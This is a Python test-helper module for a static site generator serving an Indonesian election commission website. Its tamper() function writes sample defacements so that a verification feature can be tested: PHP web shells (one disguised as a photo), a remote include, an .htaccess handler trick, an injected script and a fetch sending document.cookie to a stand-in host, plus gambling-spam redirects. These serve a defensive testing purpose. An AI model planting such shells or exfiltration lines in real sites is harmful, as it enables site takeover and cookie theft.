"""Shared test helpers: temporary sites from strings, real photos made with Pillow, running the CLI, snapshots of
folders, and the random edits of the two property tests (test_incremental, test_session)."""

from __future__ import annotations

import atexit
import datetime as dt
import functools
import io
import os
import shutil
import struct
import subprocess
import sys
import tempfile
import textwrap
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Callable, NamedTuple

ROOT = Path(__file__).resolve().parent.parent
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

import pytest  # noqa: E402
from hypothesis import strategies as st  # noqa: E402
from PIL import Image  # noqa: E402

from generator.build import Options, build  # noqa: E402
from generator.core import racy  # noqa: E402
from generator.core.report import BuildFailed  # noqa: E402
from generator.model.theme import THEME_DIR  # noqa: E402

SITES = ROOT / "tests" / "sites"
GOLDEN = ROOT / "tests" / "golden"

# The two widths every reader check (axe, the phone menu, Lighthouse's pages) runs at: a phone and a desktop.
PHONE = {"width": 390, "height": 844}
DESKTOP = {"width": 1280, "height": 900}

# The "now" of every build in the tests: 1 June 2024, 20.00 WITA.
NOW = dt.datetime(2024, 6, 1, 12, 0, tzinfo=dt.timezone.utc)

MINIMAL_CONFIG = """\
site:
  title: KPU Provinsi Kalimantan Utara
  base_url: https://kaltara.kpu.go.id/
  language: id
  timezone: Asia/Makassar
"""


def config_text(base_url: str = "https://kaltara.kpu.go.id/", timezone: str = "Asia/Makassar", extra: str = "",
                title: str = "KPU Provinsi Kalimantan Utara") -> str:
    """The minimal config with another base URL / zone / title, plus any further YAML text (text indented by two
    spaces right at the start of extra continues the `site:` section)."""
    text = MINIMAL_CONFIG.replace("https://kaltara.kpu.go.id/", base_url).replace("Asia/Makassar", timezone)
    return text.replace("KPU Provinsi Kalimantan Utara", title) + textwrap.dedent(extra)


def md(front: str, body: str = "Isi berita.\n") -> str:
    """A Markdown source with front matter: md('title: A\\ndate: 2019-11-08') -> '---\\n...\\n---\\n...'."""
    front = textwrap.dedent(front).strip("\n")
    return f"---\n{front}\n---\n\n{textwrap.dedent(body)}"


def make_photo(path: Path, size: tuple[int, int] = (64, 48), color: tuple[int, int, int] = (180, 40, 40),
               fmt: str | None = None, orientation: int | None = None) -> Path:
    """A real photo file (JPEG unless the suffix says otherwise): a coloured field with a lighter band."""
    path.parent.mkdir(parents=True, exist_ok=True)
    image = Image.new("RGB", size, color)
    band = tuple(min(255, c + 60) for c in color)
    if size[1] // 2 > size[1] // 3:          # the band filled at once: pixel by pixel, a 3000x2000 photo took 0.8 s
        image.paste(band, (0, size[1] // 3, size[0], size[1] // 2))
    fmt = fmt or {".png": "PNG", ".webp": "WEBP"}.get(path.suffix.lower(), "JPEG")
    options = {}
    if orientation:
        exif = Image.Exif()
        exif[0x0112] = orientation
        options["exif"] = exif.tobytes()
    if fmt == "JPEG":
        options["quality"] = 85
    image.save(path, fmt, **options)
    return path


@functools.cache
def compiled_theme() -> Path:
    """The built-in theme's templates compiled once per test process, as Jinja's bytecode files a build keeps in
    SITE/.cache/jinja (see seed_compiled_theme)."""
    from generator.core.report import Problems
    from generator.model.config import load
    from generator.model.theme import sources
    from generator.render import pages

    scratch = Path(tempfile.mkdtemp(prefix="kpu-jinja-"))
    atexit.register(shutil.rmtree, scratch, True)
    env = pages.environment(THEME_DIR, load(SITES / "basic" / "config.yaml", Problems()), scratch)
    for name in sources(THEME_DIR):
        env.get_template(name)
    return scratch / "jinja"


def seed_compiled_theme(site: Path) -> Path:
    """Give a test site the built-in theme already compiled (linked from compiled_theme), unless its cache holds
    compiled templates already (write_site does this for a new site, build_site before building), so that its first build loads them instead of
    compiling them: compiling was a third of a small site's cold build and 31 s of the quick tier's CPU. Jinja checks each file against its template's text and replaces, never rewrites, a stale
    one; a site's own templates are compiled as before."""
    target = site / ".cache" / "jinja"
    if target.exists():
        return site
    target.mkdir(parents=True)
    for compiled in compiled_theme().iterdir():
        try:
            os.link(compiled, target / compiled.name)
        except OSError:
            shutil.copy2(compiled, target / compiled.name)
    return site


def write_site(root: Path, files: dict[str, str | bytes], config: str | None = MINIMAL_CONFIG) -> Path:
    """Create a site folder: config.yaml (unless None, with the built-in theme compiled in .cache/jinja: see
    seed_compiled_theme) and each relative path -> text or bytes.

    A value of b"photo" makes a real JPEG/PNG with Pillow instead of writing the bytes.
    """
    root.mkdir(parents=True, exist_ok=True)
    if config is not None:
        (root / "config.yaml").write_text(config, encoding="utf-8")
        seed_compiled_theme(root)
    for rel, data in files.items():
        target = root / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        if data == b"photo":
            make_photo(target)
        elif isinstance(data, bytes):
            target.write_bytes(data)
        else:
            target.write_text(data, encoding="utf-8")
    return root


def write_post(site: Path, folder: str, front: str, body: str = "Isi berita.\n",
               files: dict[str, str | bytes] | None = None) -> Path:
    """A post bundle content/posts/FOLDER/index.md of site: front matter and body as md() makes them, and the
    bundle's files (as write_site writes them: b"photo" is a real photo). Returns the bundle's folder."""
    write_site(site, {f"content/posts/{folder}/index.md": md(front, body),
                      **{f"content/posts/{folder}/{name}": data for name, data in (files or {}).items()}}, None)
    return site / "content" / "posts" / folder


@pytest.fixture
def port_8000(tmp_path_factory):
    """Held by a test whose launcher starts a preview on port 8000 (the port it takes when free) or that holds the
    port itself: under pytest-xdist (`make test` runs several workers) no other such test runs meanwhile. The lock file
    is in the run's temporary folder, which the workers share."""
    import fcntl     # the launcher tests run on Linux and macOS only

    root = tmp_path_factory.getbasetemp()
    shared = root.parent if os.environ.get("PYTEST_XDIST_WORKER") else root
    with open(shared / "port-8000.lock", "w") as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        yield
        fcntl.flock(held, fcntl.LOCK_UN)


@pytest.fixture
def clock() -> racy.Clock:
    """The clock a test's builds judge "modified moments ago" by (Options.racy_clock: build_site(site,
    racy_clock=clock)). It stands still where the test began; clock.advance() is a user waiting a while, after which
    every file written so far is no longer "moments ago" (racy.recent, judged on racy.stamp: a file just written, or
    whose times were just set, is compared by content until then), instead of the test sleeping out RACY_NS."""
    return racy.Clock(time.time_ns())


def build_site(site: Path, **options):
    """Build in-process with the fixed NOW (unless given); returns the build Result."""
    options.setdefault("now", NOW)
    options.setdefault("workers", 1)
    if "cache" not in options:
        seed_compiled_theme(site)
    return build(Options(site, **options))


def build_errors(site: Path, **options) -> list[str]:
    """Build a site that must fail; return every problem as printed (`path:line: message`)."""
    with pytest.raises(BuildFailed) as failed:
        build_site(site, **options)
    return [str(p) for p in failed.value.problems if not p.warning]


@dataclass
class Run:
    code: int
    out: str
    err: str


def run_cli(*args: str, cwd: Path = ROOT, env: dict | None = None) -> Run:
    """Run `python -m generator ARGS` as a subprocess from the repository root."""
    environment = {**os.environ, "PYTHONPATH": str(ROOT), **(env or {})}
    done = subprocess.run([sys.executable, "-m", "generator", *args], cwd=cwd, capture_output=True,
                          text=True, env=environment, timeout=120)
    return Run(done.returncode, done.stdout, done.stderr)


def run_cli_patched(patch: str, *args: str) -> Run:
    """`python -m generator ARGS` as a subprocess, patch (Python statements) run first: a crash or a slow step put
    where the test wants it."""
    process = start_cli(patch, *args)
    out, err = process.communicate(timeout=120)
    return Run(process.returncode, out, err)


def start_cli(patch: str, *args: str, env: dict | None = None, ignore_ctrl_c: bool = False,
              own_group: bool = False) -> subprocess.Popen:
    """`python -m generator ARGS` started as a subprocess, patch (Python statements) run first; ignore_ctrl_c:
    started with SIGINT ignored, as a script's background job inherits it; own_group: in a process group of its own
    (POSIX), whose id is its process id, as a shell's job or a systemd unit's processes are."""
    import signal

    code = f"import sys\n{patch}\nfrom generator.cli import main\nsys.exit(main(sys.argv[1:]))"
    # otherwise with SIGINT, SIGTERM and SIGHUP handled as usual, whatever the suite itself was started with (nohup)
    handling = signal.SIG_IGN if ignore_ctrl_c else signal.SIG_DFL

    def signals() -> None:
        signal.signal(signal.SIGINT, handling)
        signal.signal(signal.SIGTERM, signal.SIG_DFL)
        signal.signal(signal.SIGHUP, signal.SIG_DFL)

    return subprocess.Popen([sys.executable, "-c", code, *args], cwd=ROOT,
                            env={**os.environ, "PYTHONPATH": str(ROOT), **(env or {})}, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True, preexec_fn=signals if os.name == "posix" else None,
                            process_group=0 if own_group else None)


# each file's read slowed to a few milliseconds (SFTP sends what it reads; the build reads the site's files too): on a
# quiet machine a publish of a small site is otherwise over in a fifth of a second
SLOW_READS = ("import pathlib, time\n_read = pathlib.Path.read_bytes\n"
              "pathlib.Path.read_bytes = lambda self: (time.sleep(0.004), _read(self))[1]")
# the same for every kind of target, and longer: each file's read from output/ (SFTP), copy (folder) or upload (FTP)
# 12 ms, so that a stop sent as the first file arrives still finds most of the site unsent on a loaded machine (at
# 4 ms an SFTP publish had sent half of a small site before the test, starved of CPU, saw its first file)
SLOW_SENDING = ("import pathlib, time\n_read = pathlib.Path.read_bytes\n"
                "pathlib.Path.read_bytes = lambda self: (time.sleep(0.012 if 'output' in self.parts else 0.004), "
                "_read(self))[1]\n"
                "import ftplib, shutil\n_copy, _store = shutil.copyfile, ftplib.FTP.storbinary\n"
                "shutil.copyfile = lambda *a, **k: (time.sleep(0.012), _copy(*a, **k))[1]\n"
                "ftplib.FTP.storbinary = lambda *a, **k: (time.sleep(0.012), _store(*a, **k))[1]")


def wait_until(found: Callable[[], object], process: subprocess.Popen) -> None:
    """Until found() holds (a minute at most), the process still running then."""
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and process.poll() is None and not found():
        time.sleep(0.005)
    assert process.poll() is None, process.communicate()


def lock_holder(site: Path, seconds: float) -> subprocess.Popen:
    """Another process holding the site's build lock for a while, as a running build does."""
    code = ("import sys, time; from pathlib import Path; from generator.core import lock\n"
            f"with lock.held(Path({str(site / '.cache')!r}), 5):\n"
            "    print('held', flush=True); time.sleep(float(sys.argv[1]))\n")
    holder = subprocess.Popen([sys.executable, "-c", code, str(seconds)], cwd=ROOT, stdout=subprocess.PIPE, text=True,
                              env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert holder.stdout.readline().strip() == "held"
    return holder


def run_cli_while_locked(site: Path, *args: str) -> Run:
    """`python -m generator ARGS` while another process holds the site's build lock, giving up after 0.5 s of
    waiting instead of 30."""
    from generator.core import lock

    holder = lock_holder(site, 60)
    try:
        done = subprocess.run([sys.executable, "-c", "import sys; from generator.core import lock; lock.WAIT = 0.5\n"
                               "from generator.cli import main; sys.exit(main(sys.argv[1:]))", *args], cwd=ROOT,
                              capture_output=True, text=True, env={**os.environ, "PYTHONPATH": str(ROOT)})
    finally:
        holder.kill()
        holder.wait()
        lock.lock_file(site / ".cache").unlink(missing_ok=True)    # a killed holder leaves its empty file
    return Run(done.returncode, done.stdout, done.stderr)


class Stamp(NamedTuple):
    inode: int
    mtime_ns: int
    data: bytes


def snapshot(folder: Path) -> dict[str, Stamp]:
    """Every file under folder -> (inode, mtime in ns, bytes): equal snapshots mean the folder was left exactly as
    it was, not even a file written again with the same bytes."""
    result = {}
    for path in sorted(folder.rglob("*")):
        if path.is_file():
            stat = path.stat()
            result[path.relative_to(folder).as_posix()] = Stamp(stat.st_ino, stat.st_mtime_ns, path.read_bytes())
    return result


def leaked(out: Path, outside: Path) -> bool:
    """Some file in out holds the bytes of a file below outside (published through a link, say)."""
    secrets = [p.read_bytes() for p in outside.rglob("*") if p.is_file()]
    return any(p.read_bytes() in secrets for p in out.rglob("*") if p.is_file())

def clean_build_tree(site: Path, scratch: Path, **options) -> dict[str, bytes]:
    """The output a clean build of site makes, as tree(): a copy of site without output/ and .cache/ made anew at
    scratch/bersih and built there with build_site(options). The one way the tests check "an incremental build
    equals a clean build": assert tree(site / "output") == clean_build_tree(site, tmp_path)."""
    clean = scratch / "bersih"
    shutil.rmtree(clean, ignore_errors=True)
    shutil.copytree(site, clean, ignore=shutil.ignore_patterns("output", ".cache"))
    build_site(clean, **options)
    return tree(clean / "output")


@dataclass
class Kept:
    """What a folder (base) held at one moment, copied with its times to another (copy), to be put back at the same
    paths for each test that starts from that state: the paths a site's config, cache and publish record name stay
    valid, which a copy elsewhere would not keep."""

    base: Path
    copy: Path

    def restore(self) -> Path:
        """base as it was kept: what a test left there removed, every kept entry copied back; returns base."""
        _copy_entries(self.copy, self.base)
        return self.base


def keep(base: Path, copy: Path) -> Kept:
    """Keep base's entries as they are now in the (empty) folder copy; restore() puts them back."""
    _copy_entries(base, copy)
    return Kept(base, copy)


def _copy_entries(source: Path, target: Path) -> None:
    for entry in target.iterdir():
        shutil.rmtree(entry) if entry.is_dir() and not entry.is_symlink() else entry.unlink()
    for entry in source.iterdir():
        if entry.is_dir() and not entry.is_symlink():
            shutil.copytree(entry, target / entry.name, symlinks=True)
        else:
            shutil.copy2(entry, target / entry.name, follow_symlinks=False)


def copy_site(name: str, target: Path) -> Path:
    """A fixture site from tests/sites/ copied to a temporary folder (builds write .cache/ and output/ there)."""
    shutil.copytree(SITES / name, target, ignore=shutil.ignore_patterns("output", ".cache"))
    return target


@pytest.fixture
def site_factory(tmp_path):
    """make(files, config=MINIMAL_CONFIG, name='site') -> a site folder under tmp_path."""

    def make(files: dict[str, str | bytes] | None = None, config: str | None = MINIMAL_CONFIG, name: str = "site") -> Path:
        return write_site(tmp_path / name, files or {}, config)

    return make


@pytest.fixture(scope="session")
def basic_site(tmp_path_factory) -> Path:
    """The fixture site tests/sites/basic built once (fixed NOW) into a temporary copy; returns its folder."""
    site = copy_site("basic", tmp_path_factory.mktemp("basic") / "site")
    build_site(site)
    return site


def news_site(root: Path, publish: str, posts: int = 2) -> Path:
    """A small site (posts with a photo each, a page) whose config.yaml has the given `publish:` section text."""
    files: dict[str, str | bytes] = {"content/pages/profil.md": md("title: Profil")}
    for i in range(posts):
        files[f"content/posts/2024/berita-{i}/index.md"] = md(f"title: Berita {i}\ndate: 2024-05-{i % 28 + 1:02d} 10:{i // 28:02d}\n"
                                                              "tags: [pemilu]\ncover: foto.jpg", f"Isi berita {i}.\n")
        files[f"content/posts/2024/berita-{i}/foto.jpg"] = b"photo"
    return write_site(root, files, config_text(extra=publish))


def sftp_publish(server, extra: str = "") -> str:
    """The `publish:` section of config.yaml for target 'utama' on a test sshd (tests/servers.py start_sshd)."""
    return f"""\
publish:
  utama:
    type: sftp
    host: 127.0.0.1
    port: {server.port}
    user: {server.user}
    path: {server.root}
{extra}"""


def folder_publish(root: Path, extra: str = "") -> str:
    """The `publish:` section of config.yaml for target 'utama', a folder target at root."""
    return f"""\
publish:
  utama:
    type: folder
    path: {root}
{extra}"""


GAMBLING_PAGE = ("<html><body><h1>Slot Gacor Hari Ini</h1><p>Daftar situs slot gacor maxwin, togel online terpercaya."
                 "</p><a href=\"https://slot-gacor.example/daftar\">DAFTAR</a></body></html>")


def tamper(root: Path, scenario: str) -> set[str]:
    """One way a live site is changed behind the office's back, done to the target's folder on disk (a folder
    target, or the folder an SFTP/FTP test server serves); the paths verify must name. See TAMPERINGS."""
    def write(rel: str, data: bytes, keep_time: bool = False) -> None:
        path = root / rel
        times = path.stat() if keep_time else None
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        if times is not None:
            os.utime(path, ns=(times.st_atime_ns, times.st_mtime_ns))

    def edit(rel: str, old: bytes, new: bytes) -> None:
        data = (root / rel).read_bytes()
        assert old in data, (rel, old)
        write(rel, data.replace(old, new, 1))

    page = "2024/05/01/berita-0/index.html"
    if scenario == "php-shell":
        write("wp-content/uploads/shell.php", b"<?php system($_GET['c']); ?>")
        return {"wp-content/uploads/shell.php"}
    if scenario == "injected-page":
        write("slot-gacor-maxwin.html", GAMBLING_PAGE.encode())
        return {"slot-gacor-maxwin.html"}
    if scenario == "changed-index":
        edit("index.html", b"</body>", b'<div style="display:none"><a href="https://togel.example/">togel online'
                                        b'</a></div></body>')
        return {"index.html"}
    if scenario == "changed-htaccess":
        edit(".htaccess", b"\n", b"\nRedirect 302 / https://slot-gacor.example/\n")
        return {".htaccess"}
    if scenario == "replaced-photo":
        write("2024/05/01/berita-0/foto-64w.jpg", b"\xff\xd8\xff\xe0 bukan foto kami")
        return {"2024/05/01/berita-0/foto-64w.jpg"}
    if scenario == "deleted-page":
        (root / "profil/index.html").unlink()
        return {"profil/index.html"}
    if scenario == "spam-folder":
        for i in range(3):
            write(f"judi/halaman-{i}.html", GAMBLING_PAGE.encode())
        return {f"judi/halaman-{i}.html" for i in range(3)}
    if scenario == "changed-search-index":
        index = sorted((root / "pagefind/index").iterdir())[0]
        rel = index.relative_to(root).as_posix()
        write(rel, bytes(b ^ 0x55 for b in index.read_bytes()), keep_time=True)
        return {rel}
    if scenario == "same-size-time-back":
        data = (root / page).read_bytes()
        changed = data.replace(b"Isi berita 0.", b"Isi berita X.", 1)
        assert len(changed) == len(data) and changed != data
        write(page, changed, keep_time=True)
        return {page}
    if scenario == "script-injected":
        edit(page, b"</head>", b'<script src="https://cdn.jahat.example/x.js"></script></head>')
        return {page}
    if scenario == "changed-feed":
        edit("feed.xml", b"</channel>", b"<item><title>Slot gacor</title></item></channel>")
        return {"feed.xml"}
    if scenario == "deleted-asset":
        (root / "assets/style.css").unlink()
        return {"assets/style.css"}
    if scenario == "changed-robots":
        edit("robots.txt", b"\n", b"\nDisallow: /\n")
        return {"robots.txt"}
    if scenario == "new-htaccess-below":
        write("assets/.htaccess", b"AddHandler application/x-httpd-php .jpg\n")
        return {"assets/.htaccess"}
    if scenario == "php-disguised-as-photo":
        write("2024/05/01/berita-0/foto.php.jpg", b"<?php eval($_POST['x']); ?>")
        return {"2024/05/01/berita-0/foto.php.jpg"}
    if scenario == "index-php-beside-index":       # many hosts serve index.php before index.html
        write("index.php", b"<?php include 'https://slot-gacor.example/p.txt'; ?>")
        return {"index.php"}
    if scenario == "changed-script":
        edit("assets/cari.js", b"\n", b"\nfetch('https://jahat.example/c?'+document.cookie);\n")
        return {"assets/cari.js"}
    if scenario == "changed-sitemap":
        edit("sitemap.xml", b"</urlset>", b"<url><loc>https://kaltara.kpu.go.id/slot-gacor/</loc></url></urlset>")
        return {"sitemap.xml"}
    if scenario == "deleted-photo":
        (root / "2024/05/02/berita-1/foto-64w.webp").unlink()
        return {"2024/05/02/berita-1/foto-64w.webp"}
    if scenario == "changed-404":
        edit("404.html", b"</body>", b'<meta http-equiv="refresh" content="0;url=https://judi.example/"></body>')
        return {"404.html"}
    raise ValueError(scenario)


TAMPERINGS = ("php-shell", "injected-page", "changed-index", "changed-htaccess", "replaced-photo", "deleted-page",
              "spam-folder", "changed-search-index", "same-size-time-back", "script-injected", "changed-feed",
              "deleted-asset", "changed-robots", "new-htaccess-below", "php-disguised-as-photo",
              "index-php-beside-index", "changed-script", "changed-sitemap", "deleted-photo", "changed-404")
INJECTED_BY = {"injected-page", "changed-index", "spam-folder", "script-injected", "changed-404"}   # reported as DISUSUPI first


def tree(folder: Path, skip: tuple[str, ...] = ()) -> dict[str, bytes]:
    """Every file under a folder as relative path -> bytes (to compare two outputs, or a target with output/)."""
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*"))
            if p.is_file() and p.relative_to(folder).as_posix() not in skip}


def branch_tree(repo: Path, branch: str = "gh-pages", skip: tuple[str, ...] = ()) -> dict[str, bytes]:
    """Every file on a branch of a git repository as path -> bytes, as tree() gives a folder's: the branch listed by
    one git process and its files read by one more (`cat-file --batch`), not one process a file."""
    git = ["git", "--git-dir", str(repo)]
    listing = subprocess.run([*git, "ls-tree", "-r", "-z", branch], capture_output=True, check=True).stdout
    blobs = []
    for entry in filter(None, listing.split(b"\0")):
        facts, name = entry.split(b"\t", 1)
        _, kind, sha = facts.split()
        if kind == b"blob" and name.decode() not in skip:
            blobs.append((sha, name.decode()))
    read = subprocess.run([*git, "cat-file", "--batch"], input=b"".join(sha + b"\n" for sha, _ in blobs),
                          capture_output=True, check=True).stdout
    files, at = {}, 0
    for sha, name in blobs:
        header_end = read.index(b"\n", at)
        found, kind, size = read[at:header_end].split()
        assert (found, kind) == (sha, b"blob"), read[at:header_end]
        files[name] = read[header_end + 1:header_end + 1 + int(size)]
        at = header_end + 2 + int(size)
    return files


# --- random edits of a site, for the two property tests (incremental and preview builds equal clean builds) -------

EDITED_CONFIG = config_text(extra="""\
    listing:
      per_page: 2
      related: 2
    photos:
      webp: false
    """)
TAGS = ["rapat", "sosialisasi", "pemilu-2024", "logistik"]
TEMPLATES = ["post.html", "base.html", "_macros.html", "list.html", "index.html", "gallery.html"]


def jpeg(seed: int) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (48 + seed % 5, 32), ((seed * 40) % 256, (seed * 90) % 256, 120)).save(buffer, "JPEG", quality=80)
    return buffer.getvalue()


def source(title: str, day: int, tags: list[str], body: str, gallery: list[str]) -> str:
    front = [f"title: {title}", f"date: 2024-03-{day:02d} 09:00", f"tags: [{', '.join(tags)}]", f"views: {day * 7}"]
    if gallery:
        front.append("gallery:")
        front.extend(f"  - file: {name}\n    caption: Foto {name}" for name in gallery)
    return "---\n" + "\n".join(front) + "\n---\n\n" + body


def edited_site(root: Path) -> Path:
    """The site the property tests edit: three post bundles (one with a photo), a page, and one template of its own
    (post.html) over the built-in theme."""
    files: dict[str, str | bytes] = {"content/pages/profil.md": "---\ntitle: Profil\n---\n\nTentang KPU.\n"}
    for i in range(1, 4):
        files[f"content/posts/berita-{i}/index.md"] = source(f"Berita {i}", i, TAGS[: i], f"Isi berita {i}.\n", [])
    files["content/posts/berita-1/foto-a.jpg"] = jpeg(1)
    write_site(root, files, EDITED_CONFIG)
    (root / "templates").mkdir()
    shutil.copy(THEME_DIR / "post.html", root / "templates" / "post.html")     # one override to begin with
    return root


def edited_posts(root: Path) -> list[Path]:
    return sorted((root / "content" / "posts").glob("*/index.md"))


def apply(root: Path, step: tuple[str, int, int], number: int) -> None:
    """One random change to the site; `number` makes every change's text unique."""
    kind, pick, variant = step
    found = edited_posts(root)
    target = found[pick % len(found)] if found else None
    if kind == "add_post" or target is None:
        bundle = root / "content" / "posts" / f"baru-{number}"
        bundle.mkdir()
        (bundle / "index.md").write_text(source(f"Berita Baru {number}", 1 + variant % 28, TAGS[variant % 4:][:2],
                                                f"Isi baru {number}.\n", []), encoding="utf-8")
    elif kind == "edit_body":
        with open(target, "a", encoding="utf-8") as handle:
            handle.write(f"\nKalimat tambahan {number}.\n" if variant % 3 else f"\nhttps://youtu.be/abcdefghi{number % 100:02d}\n")
    elif kind == "edit_front":
        text = target.read_text(encoding="utf-8")
        head, body = text.split("\n---\n", 1)
        lines = [line for line in head.split("\n") if not line.startswith(("title:", "date:", "tags:"))]
        lines[1:1] = [f"title: Judul {number}", f"date: 2024-03-{1 + variant % 28:02d} 0{variant % 10}:00",
                      f"tags: [{', '.join(TAGS[variant % 4:][: 1 + variant % 3])}]"]
        target.write_text("\n".join(lines) + "\n---\n" + body, encoding="utf-8")
    elif kind == "delete_post":
        shutil.rmtree(target.parent)
    elif kind == "rename_post":
        target.parent.rename(target.parent.with_name(f"{target.parent.name}-{number}"))
    elif kind == "add_photo":
        (target.parent / f"foto-{number}.jpg").write_bytes(jpeg(number + variant))
    elif kind == "delete_photo":
        photos = sorted(target.parent.glob("*.jpg"))
        if photos:
            photo = photos[variant % len(photos)]
            text = target.read_text(encoding="utf-8")
            if photo.name not in text:           # a photo listed in 'gallery' would be an error to remove
                photo.unlink()
    elif kind == "replace_photo":
        photos = sorted(target.parent.glob("*.jpg"))
        if photos:
            photos[variant % len(photos)].write_bytes(jpeg(number * 3 + variant))
    elif kind == "attach":
        (target.parent / f"lampiran-{variant % 3}.pdf").write_bytes(b"%PDF-1.4\n" + b"0" * (number * 997 + variant))
    elif kind == "remove_override":
        overrides = sorted(p for p in (root / "templates").rglob("*") if p.is_file())
        if overrides:
            overrides[variant % len(overrides)].unlink()
    elif kind == "edit_asset":
        asset = root / "templates" / "assets" / ("style.css" if variant % 2 else "video.js")
        asset.parent.mkdir(parents=True, exist_ok=True)
        asset.write_text((THEME_DIR / "assets" / asset.name).read_text(encoding="utf-8") + f"/* versi {number} */\n",
                         encoding="utf-8")
    elif kind == "edit_template":
        template = root / "templates" / TEMPLATES[variant % len(TEMPLATES)]
        if not template.is_file():               # a new override starts as a copy of the built-in template
            template.parent.mkdir(parents=True, exist_ok=True)
            shutil.copy(THEME_DIR / template.name, template)
        text = template.read_text(encoding="utf-8")
        if template.name == "_macros.html":
            text = text.replace("Baca selengkapnya", f"Baca selengkapnya ({number})", 1)
        elif "{% endblock %}" in text and variant % 2:
            text = text.replace("{% endblock %}", f"<!-- versi {number} -->{{% endblock %}}", 1)
        else:
            text += f"<!-- versi {number} -->\n"
        template.write_text(text, encoding="utf-8")


STEPS = st.tuples(
    st.sampled_from(["edit_body", "edit_front", "add_post", "delete_post", "rename_post", "add_photo",
                     "delete_photo", "replace_photo", "edit_template", "remove_override", "edit_asset", "attach"]),
    st.integers(0, 10), st.integers(0, 100))


# --- the staff desk (Meja Redaksi) served by the real preview server, for its browser tests ----------------------

@dataclass
class DeskServer:
    site: Path
    origin: str               # http://127.0.0.1:PORT: the desk at /_redaksi/, the built site at /
    token: str                # the session's token, as the desk's pages carry it
    stop: object

    @property
    def url(self) -> str:
        return self.origin + "/_redaksi"


def start_desk(site: Path, upload_limit: int | None = None) -> DeskServer:
    """The preview server (serve.Preview: Host check, rebuilds) on 127.0.0.1 at an ephemeral port, with the desk at
    /_redaksi/; the server's messages are kept, not printed. stop() ends it."""
    import re
    import urllib.request

    from generator.desk.app import create_app
    from generator.desk.context import DeskContext
    from generator.preview.serve import Preview, Serving

    def desk(**fields):
        return create_app(DeskContext(**fields, upload_limit=upload_limit))

    preview = Preview(Options(site, workers=1), out=io.StringIO(), err=io.StringIO(), serving=Serving(desk=desk))
    preview.bind("127.0.0.1", 0)
    preview.start()
    preview.serve_in_thread()
    with urllib.request.urlopen(preview.origin + "/_redaksi/", timeout=30) as answer:
        token = re.search(r'name="desk-token" content="([^"]+)"', answer.read().decode()).group(1)
    return DeskServer(site, preview.origin, token, preview.close)


def desk_get(desk: DeskServer, path: str) -> tuple[int, str]:
    """A page of the desk (path below /_redaksi): its status and text, an error status too."""
    import urllib.error
    import urllib.request

    try:
        with urllib.request.urlopen(desk.url + path, timeout=60) as answer:
            return answer.status, answer.read().decode("utf-8")
    except urllib.error.HTTPError as err:
        return err.code, err.read().decode("utf-8")


def desk_form(desk: DeskServer, path: str, fields: list[tuple[str, str]], files: tuple = (),
              token: bool = True) -> tuple[int, str]:
    """A form posted to the desk as a browser without JavaScript sends it (multipart; the session's token in its
    'csrf' field unless token is False; files as (field, file name, bytes)): the status and text of the page it
    ends on (a redirect followed)."""
    import urllib.error
    import urllib.request
    import uuid

    boundary = uuid.uuid4().hex
    parts = [(name, None, value.encode("utf-8")) for name, value in ([("csrf", desk.token)] if token else []) + fields]
    body = b""
    for name, filename, data in parts + list(files):
        named = f'; filename="{filename}"' if filename is not None else ""
        body += (f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"{named}\r\n'
                 + ("Content-Type: application/octet-stream\r\n" if filename is not None else "")
                 + "\r\n").encode("utf-8") + data + b"\r\n"
    request = urllib.request.Request(desk.url + path, data=body + f"--{boundary}--\r\n".encode(), method="POST",
                                     headers={"Content-Type": f"multipart/form-data; boundary={boundary}"})
    try:
        with urllib.request.urlopen(request, timeout=120) as answer:
            return answer.status, answer.read().decode("utf-8")
    except urllib.error.HTTPError as err:
        return err.code, err.read().decode("utf-8")


@pytest.fixture(scope="session")
def desk_site(tmp_path_factory) -> Path:
    """tests/sites/basic built once as the desk's preview builds it (the real clock, its cache and output kept), for
    each desk test to copy: the copy's first build then renders nothing, as a desk opened on a built site does."""
    site = copy_site("basic", tmp_path_factory.mktemp("desk-basic") / "site")
    build(Options(site, workers=1))
    return site


@pytest.fixture
def desk(tmp_path, desk_site):
    """The fixture site tests/sites/basic, copied (with the output and cache of a build), with its preview and desk
    running."""
    server = start_desk(Path(shutil.copytree(desk_site, tmp_path / "site", symlinks=True)))
    yield server
    server.stop()


# ------------------------------------------------------------------------------------------------ phone videos

VIDEO_PLACE = b"+37.3349-122.0090+030.000/"        # the ISO 6709 point a phone writes (udta/©xyz, ilst)
VIDEO_PLACE_NAME = b"Rumah Jalan Mawar 7"            # 3GPP loci's place name
VIDEO_FRAMES = bytes(range(256)) * 16               # mdat's payload: the "media" that must stay byte for byte


def video_box(kind: bytes, *payload: bytes, large: bool = False) -> bytes:
    """One ISO-BMFF box: 32-bit size and type (large: size 1 and a 64-bit size after the type), then payload."""
    body = b"".join(payload)
    if large:
        return struct.pack(">I4sQ", 1, kind, len(body) + 16) + body
    return struct.pack(">I4s", len(body) + 8, kind) + body


def make_video(place: bool = True, quicktime: bool = False, large_mdat: bool = False) -> bytes:
    """A small real MP4 (quicktime: a MOV) as a phone writes it: ftyp, mdat, then moov with mvhd, a track whose
    stco points into mdat, udta with ©xyz and 3GPP loci, and meta with keys/ilst holding the
    com.apple.quicktime.location.ISO6709 value (MP4's meta has version and flags first, QuickTime's does not).
    place=False: the same boxes without any location."""
    ftyp = video_box(b"ftyp", b"qt  " if quicktime else b"isom", b"\0\0\0\0", b"qt  " if quicktime else b"mp41")
    mdat = video_box(b"mdat", VIDEO_FRAMES, large=large_mdat)
    first_chunk = len(ftyp) + (16 if large_mdat else 8)
    mvhd = video_box(b"mvhd", bytes(12), struct.pack(">II", 600, 600), struct.pack(">IH", 0x10000, 0x100),
                     bytes(10), struct.pack(">9I", 0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000), bytes(24),
                     struct.pack(">I", 2))
    stco = video_box(b"stco", bytes(4), struct.pack(">II", 1, first_chunk))
    trak = video_box(b"trak", video_box(b"mdia", video_box(b"minf", video_box(b"stbl", stco))))
